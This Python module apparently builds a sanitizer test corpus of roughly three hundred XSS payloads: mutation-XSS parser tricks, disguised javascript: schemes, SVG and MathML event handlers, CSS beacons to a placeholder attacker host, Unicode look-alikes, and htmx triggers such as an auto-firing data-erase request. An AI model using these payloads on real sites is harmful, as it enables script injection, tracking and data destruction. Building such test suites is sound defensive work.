"""Three hundred texts more, for the full run: what sanitizers fell for (markup that means something else when it is parsed
a second time), styles that load or cover, pictures and formulas that run, addresses in disguise, letters that are not
what they look like. Each is a way in times what stands behind it.
"""

from __future__ import annotations

from itertools import product

_TWICE = (
    "<math><mtext><table><mglyph><style><math href=#>{inner}</style></math></table></mtext></math>",
    '<svg></p><style><a id="</style>{inner}">',
    "<form><math><mtext></form><form><mglyph><style></math>{inner}",
    "<svg><desc><p title='</desc></svg>{inner}'>",
    "<noembed><a title='</noembed>{inner}'>",
    "<noframes><p id='</noframes>{inner}'>",
    "<xmp><p title='</xmp>{inner}'>",
    "<plaintext></plaintext>{inner}",
    "<select><template><style><!--</style></template></select>{inner}<!-- -->",
    "<math><annotation-xml encoding='text/html'><p>{inner}</annotation-xml></math>",
    "<table><td><svg><foreignObject><p></table>{inner}",
    "<title><svg></title>{inner}</svg>",
)
_INNER = (
    "<img data-hit src=x onerror={run}>",
    "<script data-hit>{run}</script>",
    "<a data-hit href=javascript:{run}>x</a>",
    "<img data-hit src=//{evil}/m.gif>",
    "<iframe data-hit src=//{evil}/></iframe>",
    "<svg data-hit onload={run}>",
    "<style data-hit>@import '//{evil}/n.css';</style>",
)
_SINKS = (
    "<a data-hit href='{scheme}'>x</a>",
    "<form data-hit action='{scheme}'><input type=submit value=x></form>",
    "<iframe data-hit src='{scheme}'></iframe>",
    "<object data-hit data='{scheme}'></object>",
    "<svg data-hit><a href='{scheme}'><text y=20>x</text></a></svg>",
    "<math data-hit href='{scheme}'><mi>x</mi></math>",
    "<button data-hit formaction='{scheme}'>x</button>",
    "<area data-hit shape=default href='{scheme}'>",
)
_SCHEMES = (
    "JaVaScRiPt:{run}",
    "java&Tab;script:{run}",
    "java&NewLine;script:{run}",
    "&#0000106avascript:{run}",
    "&#x0A;javascript&colon;{run}",
    "javascript:/*%0A*/{run}//",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>",
    "\\\\{evil}\\share",
    "///{evil}/x",
)
_DRAWN = (
    "<svg data-hit><animate attributeName=href values=javascript:{run} /><a><text y=20>x</text></a></svg>",
    "<svg data-hit><set attributeName=onmouseover to={run}></svg>",
    "<svg data-hit><animateTransform onbegin={run} attributeName=transform></svg>",
    "<svg data-hit><animateMotion onend={run} dur=1s path=M0,0></svg>",
    "<svg data-hit><image href=//{evil}/i.png /></svg>",
    "<svg data-hit><feImage href=//{evil}/f.png /></svg>",
    "<svg data-hit><filter id=f><feImage xlink:href=//{evil}/g.png /></filter></svg>",
    "<svg data-hit><style>@font-face{{font-family:x;src:url(//{evil}/w)}}</style></svg>",
    "<svg data-hit><handler type=text/javascript>{run}</handler></svg>",
    "<svg data-hit><switch><foreignObject><body onload={run}></foreignObject></switch></svg>",
    "<svg data-hit><use href=\"data:image/svg+xml,<svg id='x' onload='{run}'/>#x\"></svg>",
    "<svg data-hit><script href=data:,{run} /></svg>",
    "<svg data-hit><script xlink:href=//{evil}/s.js></script></svg>",
    "<svg data-hit><discard onbegin={run}></svg>",
    "<svg data-hit><textPath href=//{evil}/t.svg#p>x</textPath></svg>",
    "<svg data-hit><mask><image href=//{evil}/k.png></mask></svg>",
    "<svg data-hit onunload={run}><title><![CDATA[</title><script>{run}</script>]]></svg>",
    "<math data-hit><maction actiontype=statusline#http://{evil} xlink:href=javascript:{run}>x</maction></math>",
    "<math data-hit><ms lquote='<' rquote='>' onclick={run}>x</ms></math>",
    "<math data-hit><mspace background=//{evil}/m.png width=9em></math>",
    "<math data-hit><semantics><annotation-xml><svg onload={run}></annotation-xml></semantics></math>",
    "<math data-hit xlink:type=simple xlink:href=data:text/html,{run}>x</math>",
)
_STYLED = (
    '<p data-hit style="{style}">x</p>',
    "<style data-hit>p{{{style}}}</style>",
    "<svg data-hit><style>*{{{style}}}</style></svg>",
    '<link data-hit rel=stylesheet href="data:text/css,*{{{style}}}">',
)
_STYLES = (
    "background-image:url(//{evil}/a.png)",
    "background:image-set('//{evil}/b.png' 1x)",
    "list-style-image:url(//{evil}/c.png)",
    "border-image-source:url(//{evil}/d.png)",
    "cursor:url(//{evil}/e.cur),auto",
    "content:url(//{evil}/f.png)",
    "mask-image:url(//{evil}/g.svg#m)",
    "filter:url(//{evil}/h.svg#f)",
    "clip-path:url(//{evil}/i.svg#c)",
    "shape-outside:url(//{evil}/j.png)",
    "-moz-binding:url(//{evil}/k.xml#x)",
    "behavior:url(//{evil}/l.htc)",
    "width:expression({run})",
    "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999",
    "background:url(javas\\63ript:{run})",
    "b\\61 ckground:ur\\6c(//{evil}/m.png)",
    "font-family:x;src:url(//{evil}/n.woff)",
    "animation:x 1s;--x:url(//{evil}/o.png)",
)
_WRITTEN = (
    "\uff1cimg data-hit src=x onerror={run}\uff1e",
    "\u2039script data-hit\u203a{run}\u2039/script\u203a",
    "\ufe64img data-hit src=x onerror={run}\ufe65",
    "<\u0456mg data-hit src=x onerror={run}>",
    "<img\u00a0data-hit src=x onerror={run}>",
    "<img\u2003data-hit\u2003src=x\u2003onerror={run}>",
    "<img data-hit src=x onerror=\u0430lert(1)>",
    "<im\u00adg data-hit src=x onerror={run}>",
    "<\u034fscript data-hit>{run}</script>",
    "\ud7ff\ue000<b data-hit>private use",
    "<b data-hit>\u202e>b/<\u202c",
    "\u2067<a data-hit href=//{evil}/>\u2069elpmaxe.moc",
    "\U000e0041\U000e0042<i data-hit onclick={run}>tagged",
    "\u0338<script data-hit>{run}</script>",
    "K\u212aelvin <\u017fcript data-hit>{run}</\u017fcript>",
    "\u1d43\u02e1\u1d49\u02b3\u1d57(1) <u data-hit>",
    "\u200d<svg\u200ddata-hit onload={run}>",
    "a\u0300\u0301\u0302\u0303\u0304<q data-hit onclick={run}>",
    "\ufffd\ufffe<s data-hit>not a letter",
    "\u0085<script data-hit>{run}</script>",
    "\x0c<img data-hit src=x onerror={run}>",
    "\u180e<em data-hit onclick={run}>",
    "ﷺ<strong data-hit>\ufdfd",
    "\u3164<code data-hit onclick={run}>\u3164",
)
_ASKED = (
    "<div data-hit hx-get=//{evil}/h hx-trigger=load>",
    "<div data-hit hx-post=/settings/data/erase hx-trigger=load>",
    "<div data-hit data-hx-get=//{evil}/d data-hx-trigger=revealed>",
    "<div data-hit hx-vals='js:{{x:{run}}}' hx-get=/ hx-trigger=load>",
    "<div data-hit hx-on::load={run}>",
    "<form data-hit id=sign-out action=/sign-out method=post>",
    "<input data-hit name=form_token value=stolen form=review>",
    "<meta data-hit name=referrer content=unsafe-url>",
    "<link data-hit rel=preconnect href=//{evil}>",
    "<link data-hit rel=dns-prefetch href=//{evil}>",
    "<link data-hit rel=manifest href=//{evil}/m.json>",
    '<script data-hit type=speculationrules>{{"prefetch":[{{"urls":["//{evil}/"]}}]}}</script>',
    '<script data-hit type=importmap>{{"imports":{{"x":"//{evil}/"}}}}</script>',
    "<img data-hit srcset='//{evil}/1.png 1x, //{evil}/2.png 2x'>",
    "<picture data-hit><source srcset=//{evil}/p.webp><img></picture>",
    "<video data-hit poster=//{evil}/v.png></video>",
    "<track data-hit src=//{evil}/t.vtt default>",
    "<a data-hit href=/ ping=//{evil}/ping>x</a>",
    "<bgsound data-hit src=//{evil}/b.mid>",
    "<frameset data-hit onload={run}><frame src=//{evil}/></frameset>",
    "<applet data-hit codebase=//{evil}/ code=x></applet>",
    "<input data-hit type=image src=//{evil}/i.png>",
    "<menuitem data-hit onclick={run}>x",
    "<fencedframe data-hit src=//{evil}/></fencedframe>",
)


def more() -> list[str]:
    """All of them, with places for what runs and where it leads."""
    return [
        *(way.format(inner=inner, run="{run}", evil="{evil}") for way, inner in product(_TWICE, _INNER)),
        *(sink.format(scheme=scheme) for sink, scheme in product(_SINKS, _SCHEMES)),
        *(one.replace("{{", "{").replace("}}", "}") for one in _DRAWN),
        *(way.format(style=style) for way, style in product(_STYLED, _STYLES)),
        *_WRITTEN,
        *(one.replace("{{", "{").replace("}}", "}") for one in _ASKED),
    ]
